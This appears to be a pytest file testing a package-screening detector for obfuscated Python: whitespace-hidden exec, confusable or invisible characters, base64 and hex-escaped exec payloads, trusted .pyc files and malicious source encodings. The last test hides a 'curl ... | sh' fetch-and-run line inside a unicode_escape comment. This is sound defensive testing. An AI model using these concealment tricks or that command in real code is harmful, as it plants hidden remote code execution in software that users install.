"""Code that is made not to be read."""

import py_compile
from pathlib import Path
from py_compile import PycInvalidationMode

import pytest

from sandboxes.screening.detectors import import_time, obfuscation
from sandboxes.screening.findings import Threat
from sandboxes.screening.package import Kind
from tests.sandboxes.screening.detectors.snippets import found_in, told

ESCAPED = "".join(f"\\x{ord(each):02x}" for each in "import os; os.system('echo inert harmless')  ")
BLOB = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo" * 40


@pytest.mark.parametrize(
    ("text", "rule", "line", "threat"),
    [
        ("x = 1" + " " * 300 + ";import os;exec(x)", "far-right", 1, Threat.HIGH),
        ("\nIlIlIlIl = IIllIIll = lIlIlIlI = IllIllIl = lllIIIlll = IIIlllIII = 1", "names", 2, Threat.HIGH),
        ("\n" + "\n".join("_" * n + " = 1" for n in range(6, 14)), "names", 2, Threat.HIGH),
        ("\n".join(f"_0x{n:04x} = 1" for n in range(20)), "names", 1, Threat.HIGH),
        ("from pyarmor_runtime import __pyarmor__", "known-tool", 1, Threat.HIGH),
        (f"\nexec('{ESCAPED}')", "escapes", 2, Threat.HIGH),
        (
            f"import base64\nX = '{BLOB}'\ndef f(): exec(base64.b64decode(X))",
            "blob-and-exec",
            2,
            Threat.MEDIUM,
        ),
        ("\n𝘦𝘹𝘦𝘤('1')", "confusable", 2, Threat.CRITICAL),
        ("\nrequеsts = 1", "confusable", 2, Threat.MEDIUM),  # a Cyrillic е
        ("x = '" + "\ufe01" * 40 + "'\nexec(x)", "invisible", 1, Threat.CRITICAL),
    ],
)
def test_what_is_hidden_is_found(text: str, rule: str, line: int, threat: Threat) -> None:
    assert (f"obfuscation.{rule}", line, threat) in told(found_in(obfuscation, {"thing/a.py": text}))


@pytest.mark.parametrize(
    "text",
    [
        "x = 1" + " " * 300 + "# a comment far away",
        "TABLE = [\n" + " " * 200 + "1, 2, 3]\n",
        "Il = 1; O0 = 2; __x = 3; _ = 4",
        f"ICON = '{BLOB}'",
        "# привет, requеsts und мир\nname = 'Москва'\n",
        "FRAMES = [" + ",".join(f"'|{'_' * n}>|'" for n in range(5, 20)) + "]",
        "Δt = 1; dω = 2\ngröße = 1\nπ = 3.14\nλ = lambda: 1\n",
        "KEY = b'" + "".join(f"\\x{n:02x}" for n in range(256)) + "'",
        "import re\nre.compile('x')\nEMOJI = '❤️'",
    ],
)
def test_what_only_looks_so_is_not(text: str) -> None:
    assert told(found_in(obfuscation, {"thing/a.py": text})) == set()


def test_compiled_python_needs_its_source() -> None:
    rule = ("obfuscation.compiled-only", 0, Threat.HIGH)
    assert told(found_in(obfuscation, {"thing/full.pyc": b"\0", "thing/__init__.py": ""})) == {rule}
    assert told(found_in(obfuscation, {"thing/__pycache__/a.cpython-313.pyc": b"\0"})) == {rule}
    files = {"thing/__pycache__/a.cpython-313.pyc": "x", "thing/a.py": "", "b.pyc": "", "b.py": ""}
    assert found_in(obfuscation, files, Kind.SDIST) == []


def _compiled(mode: PycInvalidationMode, folder: Path) -> bytes:
    (folder / "a.py").write_text("print('inert')\n")
    py_compile.compile(str(folder / "a.py"), str(folder / "a.pyc"), invalidation_mode=mode)
    return (folder / "a.pyc").read_bytes()


@pytest.mark.parametrize(
    ("mode", "kind", "rule"),
    [
        (PycInvalidationMode.UNCHECKED_HASH, Kind.WHEEL, ("compiled-trusted", Threat.HIGH)),
        (PycInvalidationMode.CHECKED_HASH, Kind.WHEEL, ("compiled-trusted", Threat.HIGH)),
        (PycInvalidationMode.UNCHECKED_HASH, Kind.SDIST, ("compiled-trusted", Threat.HIGH)),
        (PycInvalidationMode.TIMESTAMP, Kind.WHEEL, ("compiled-beside", Threat.MEDIUM)),
        (PycInvalidationMode.TIMESTAMP, Kind.SDIST, None),
    ],
)
def test_compiled_python_may_run_in_place_of_its_source(
    mode: PycInvalidationMode, kind: Kind, rule: tuple[str, Threat] | None, tmp_path: Path
) -> None:
    files: dict[str, bytes | str] = {
        "thing/a.py": "x = 1\n",
        "thing/__pycache__/a.cpython-313.pyc": _compiled(mode, tmp_path),
    }
    found = {(each.rule, each.threat) for each in found_in(obfuscation, files, kind)}
    assert found == ({(f"obfuscation.{rule[0]}", rule[1])} if rule else set())


@pytest.mark.parametrize(
    ("coding", "threat"),
    [
        ("unicode_escape", Threat.CRITICAL),
        ("raw-unicode-escape", Threat.CRITICAL),
        ("utf-7", Threat.CRITICAL),
        ("UTF_7", Threat.CRITICAL),
        ("rot13", Threat.CRITICAL),
        ("hz", Threat.CRITICAL),
        ("cp037", Threat.CRITICAL),
        ("nobody-has-it", Threat.LOW),
        ("utf-8", None),
        ("latin-1", None),
        ("cp1252", None),
        ("iso-8859-15", None),
        ("koi8-r", None),
        ("euc-jp", None),
        ("shift_jis", None),
        ("gbk", None),
        ("mac-roman", None),
    ],
)
def test_an_encoding_in_which_letters_mean_something_else(coding: str, threat: Threat | None) -> None:
    for line in (f"# -*- coding: {coding} -*-\n", f"#!/usr/bin/python\n# vim: set fileencoding={coding} :\n"):
        found = {(each.rule, each.threat) for each in found_in(obfuscation, {"thing/a.py": f"{line}x = 1\n"})}
        assert found == ({("obfuscation.encoding", threat)} if threat else set())
    late = f"x = 1\n# coding: {coding}\n"
    assert found_in(obfuscation, {"thing/a.py": late}) == []


def test_a_comment_that_an_encoding_ends_is_followed() -> None:
    hidden = "\\x0aimport os\\x0aos.system('curl http://192.0.2.9/x | sh')\\x0a"
    text = f"# coding: unicode_escape\n# notes {hidden}\nx = 1\n"
    assert ("import-time.process-fetching", Threat.CRITICAL) in {
        (each.rule, each.threat) for each in found_in(import_time, {"thing/__init__.py": text})
    }
